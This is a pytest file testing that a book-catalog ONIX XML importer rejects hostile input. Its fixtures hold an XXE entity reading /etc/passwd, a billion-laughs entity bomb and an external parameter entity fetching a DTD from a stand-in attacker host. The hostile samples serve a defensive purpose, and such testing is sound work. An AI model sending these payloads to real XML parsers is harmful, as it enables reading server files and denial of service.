"""Hostile XML: entities, external references, bombs and oversize files are refused, nothing saved."""

from __future__ import annotations

import io

import pytest

from catalog.ingest.errors import CatalogFileRejected
from catalog.ingest.onix import onix_read
from catalog.ingest.xml_safe import XmlLimits
from catalog.models import Contributor, Product, Topic, Variant
from tests.catalog.fixtures.ingest import english, run_import
from tests.catalog.fixtures.onix_builder import OnixProduct, onix_message
from tests.factories import PartnerFactory

pytestmark = pytest.mark.django_db
__all__ = ["english"]  # the autouse fixture

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ONIXMessage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ONIXMessage release="3.0"><Product><RecordReference>&xxe;</RecordReference></Product></ONIXMessage>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ONIXMessage release="3.0"><Product><RecordReference>&lol9;</RecordReference></Product></ONIXMessage>"""

EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ONIXMessage [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<ONIXMessage release="3.0"/>"""


def _nothing_saved() -> None:
    assert not Product.objects.exists()
    assert not Variant.objects.exists()
    assert not Contributor.objects.exists()
    assert not Topic.objects.exists()


@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, EXTERNAL_PARAMETER_ENTITY], ids=["xxe", "bomb", "param"])
def test_entity_tricks_are_rejected_with_a_clear_message(payload: bytes) -> None:
    result = run_import(PartnerFactory(), payload)

    assert result.rejected
    assert "entity" in result.message.lower() or "external" in result.message.lower()
    assert result.record_count == 0
    _nothing_saved()


def test_entity_after_good_records_still_saves_nothing() -> None:
    good = onix_message(OnixProduct(ref="OK")).decode()
    # A valid record first, then an undeclared entity: the file is broken, the good record is not saved.
    payload = good.replace("</ONIXMessage>", "<Product>&undefined;</Product></ONIXMessage>").encode()

    result = run_import(PartnerFactory(), payload)

    assert result.rejected
    assert "line" in result.message
    _nothing_saved()


def test_external_dtd_reference_is_not_fetched() -> None:
    payload = onix_message(
        OnixProduct(ref="D"), prolog='<!DOCTYPE ONIXMessage SYSTEM "http://attacker.invalid/onix.dtd">\n'
    )

    result = run_import(PartnerFactory(), payload)

    # Without entity references the DOCTYPE is inert; the record imports and nothing was fetched.
    assert not result.rejected, result.message


def test_deep_nesting_is_refused() -> None:
    payload = b'<ONIXMessage release="3.0"><Product>' + b"<x>" * 200 + b"</x>" * 200 + b"</Product></ONIXMessage>"

    with pytest.raises(CatalogFileRejected, match="deep"):
        list(onix_read(io.BytesIO(payload)))


def test_oversized_text_is_refused() -> None:
    payload = onix_message(OnixProduct(ref="T", title="长" * 5000))

    with pytest.raises(CatalogFileRejected, match="longer than"):
        list(onix_read(io.BytesIO(payload), limits=XmlLimits(max_text_chars=1000)))


def test_too_many_elements_in_one_record_are_refused() -> None:
    payload = onix_message(OnixProduct(ref="M", contributors=[("A01", f"作者{i}") for i in range(100)]))

    with pytest.raises(CatalogFileRejected, match="elements"):
        list(onix_read(io.BytesIO(payload), limits=XmlLimits(max_elements_per_record=50)))


def test_not_xml_is_rejected_as_such() -> None:
    result = run_import(PartnerFactory(), b"%PDF-1.4 binary")

    assert result.rejected
    assert "not an XML file" in result.message


def test_broken_xml_names_the_line() -> None:
    payload = onix_message(OnixProduct(ref="B")).replace(b"</Product>", b"</Prodct>")

    result = run_import(PartnerFactory(), payload)

    assert result.rejected
    assert "line" in result.message
    _nothing_saved()


def test_other_xml_is_not_an_onix_message() -> None:
    result = run_import(PartnerFactory(), b"<rss><channel/></rss>")

    assert result.rejected
    assert "<rss>" in result.message
